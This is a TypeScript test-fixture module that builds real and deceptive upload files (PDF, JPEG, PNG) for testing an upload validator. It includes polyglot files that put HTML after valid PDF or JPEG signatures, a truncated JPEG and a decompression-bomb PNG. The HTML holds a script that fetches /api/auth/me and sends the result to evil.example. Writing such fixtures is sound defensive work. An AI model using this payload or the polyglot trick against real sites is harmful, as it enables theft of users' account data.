import PDFDocument from 'pdfkit';
import sharp from 'sharp';

/**
 * Files of the review's attacks on uploads (issue 21 item 6), and real files beside them: each
 * attack starts with the right first bytes for its type and is not that type.
 */

/**
 * A real PDF of `pages` pages, made by pdfkit; `userPassword` makes one that needs a password to
 * open, `ownerPassword` alone one that opens without (only printing or copying is restricted).
 */
export function realPdf(
  opts: { pages?: number; text?: string; userPassword?: string; ownerPassword?: string } = {},
): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const security = opts.userPassword
      ? { userPassword: opts.userPassword, ownerPassword: `${opts.userPassword}-owner` }
      : opts.ownerPassword
        ? { ownerPassword: opts.ownerPassword, permissions: { printing: 'lowResolution' as const } }
        : {};
    const doc = new PDFDocument({ size: 'LETTER', ...security });
    const chunks: Buffer[] = [];
    doc.on('data', (c: Buffer) => chunks.push(c));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
    for (let i = 0; i < (opts.pages ?? 1); i++) {
      if (i > 0) doc.addPage();
      doc.fontSize(16).text(`${opts.text ?? 'Certificate of liability insurance'}, page ${i + 1}`);
    }
    doc.end();
  });
}

export const realJpeg = (width = 400, height = 300) =>
  sharp({ create: { width, height, channels: 3, background: '#b0542c' } })
    .jpeg()
    .toBuffer();

export const realPng = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: '#1e3a5f' } })
    .png()
    .toBuffer();

const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/auth/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>\n',
);

/** '%PDF-' and a version, then an HTML page with a script: no PDF structure at all. */
export const htmlAfterPdfSignature = (): Buffer => Buffer.concat([Buffer.from('%PDF-1.7\n'), HTML]);

/** A PDF whose catalogue has no pages (the structure parses, there is nothing to show). */
export const pdfWithoutPages = (): Buffer =>
  Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  );

/** A real JPEG's header (SOI, JFIF, tables, frame) and, where its picture should be, HTML. */
export async function htmlAfterJpegHeader(): Promise<Buffer> {
  const jpeg = await realJpeg(64, 64);
  // the start of scan (FF DA) begins the compressed picture: everything before it is the header
  let sos = -1;
  for (let i = 2; i < jpeg.length - 1; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1] === 0xda) {
      sos = i;
      break;
    }
  }
  if (sos < 0) throw new Error('no start of scan in the JPEG');
  return Buffer.concat([jpeg.subarray(0, sos), HTML]);
}

/** The first bytes of a JPEG signature alone, then HTML. */
export const htmlAfterJpegSignature = (): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML]);

/** A real JPEG cut in the middle of its picture (an upload cut short). */
export async function truncatedJpeg(): Promise<Buffer> {
  const noisy = await sharp({
    create: {
      width: 400,
      height: 400,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
  return noisy.subarray(0, Math.floor(noisy.length * 0.6));
}

/** 12,000 x 12,000 pixels (144 megapixels) of one colour: a few hundred kB on disk. */
export const hugePng = (): Promise<Buffer> =>
  sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: '#ffffff' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
